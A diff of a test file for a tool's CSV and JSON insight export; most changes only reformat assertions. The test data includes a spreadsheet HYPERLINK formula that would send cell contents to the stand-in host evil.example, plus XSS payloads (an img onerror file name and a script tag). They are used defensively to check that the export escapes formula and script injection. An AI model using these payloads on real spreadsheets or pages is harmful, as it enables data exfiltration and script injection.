@@ -279,8 +279,14 @@ describe('insight export: CSV', () => {
       for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a formula cell: ${JSON.stringify(cell)}`);
     }
     assert.deepEqual(rows[1], ['source', `'@evil<img src=x onerror="alert(1)">.md`, 'scope', 'file']);
-    assert.deepEqual(rows.find((r) => r[0] === 'top_token' && r[2] === 'count'), ['top_token', `'=HYPERLINK("https://evil.example/?d="&A1,"click")`, 'count', '3']);
-    assert.deepEqual(rows.find((r) => r[0] === 'disagreement' && r[2] === 'text'), ['disagreement', '5-40', 'text', 'He said, "hi"\n<script>alert(1)</script>']);
+    assert.deepEqual(
+      rows.find((r) => r[0] === 'top_token' && r[2] === 'count'),
+      ['top_token', `'=HYPERLINK("https://evil.example/?d="&A1,"click")`, 'count', '3'],
+    );
+    assert.deepEqual(
+      rows.find((r) => r[0] === 'disagreement' && r[2] === 'text'),
+      ['disagreement', '5-40', 'text', 'He said, "hi"\n<script>alert(1)</script>'],
+    );
   });
 
   it('has a row per number of the sample view', () => {
@@ -288,9 +294,23 @@ describe('insight export: CSV', () => {
     const v = sampleInsightView;
     // 1 header + 2 source + 3 model + 11 compression + histogram + 2 per top token + 1 output
     // + 12 per model + 3 compare + 3 per span + 3 per script.
-    const expected = 1 + 2 + 3 + 11 + v.compression.lengthHistogram.counts.length + 2 * v.compression.topTokens.length + 1 + 12 * v.models.length + 3 + 3 * v.compare!.spans.length + 3 * v.scripts.length;
+    const expected =
+      1 +
+      2 +
+      3 +
+      11 +
+      v.compression.lengthHistogram.counts.length +
+      2 * v.compression.topTokens.length +
+      1 +
+      12 * v.models.length +
+      3 +
+      3 * v.compare!.spans.length +
+      3 * v.scripts.length;
     assert.equal(rows.length, expected);
-    assert.deepEqual(rows.find((r) => r[0] === 'token_length' && r[1] === '10+'), ['token_length', '10+', 'tokens', '2']);
+    assert.deepEqual(
+      rows.find((r) => r[0] === 'token_length' && r[1] === '10+'),
+      ['token_length', '10+', 'tokens', '2'],
+    );
   });
 });
 
@@ -301,7 +321,21 @@ describe('insight export: JSON', () => {
     assert.ok(text.startsWith('{\n  "source": {\n    "fileName": "a.md",\n    "scope": "selection",\n    "chars": 12\n  },\n  "model": {'), text.slice(0, 120));
     const data = JSON.parse(text);
     assert.deepEqual(Object.keys(data), ['source', 'model', 'compression', 'expectedOutputTokens', 'models', 'disagreements', 'scripts']);
-    assert.deepEqual(Object.keys(data.models[0]), ['id', 'displayName', 'provider', 'tokens', 'exact', 'errorLabel', 'usableWindow', 'windowSharePct', 'inputCost', 'cachedInputCost', 'outputCost', 'priceSource', 'priceDate']);
+    assert.deepEqual(Object.keys(data.models[0]), [
+      'id',
+      'displayName',
+      'provider',
+      'tokens',
+      'exact',
+      'errorLabel',
+      'usableWindow',
+      'windowSharePct',
+      'inputCost',
+      'cachedInputCost',
+      'outputCost',
+      'priceSource',
+      'priceDate',
+    ]);
     assert.deepEqual(data.models[1], {
       id: 'x',
       displayName: 'My, "quoted" model',
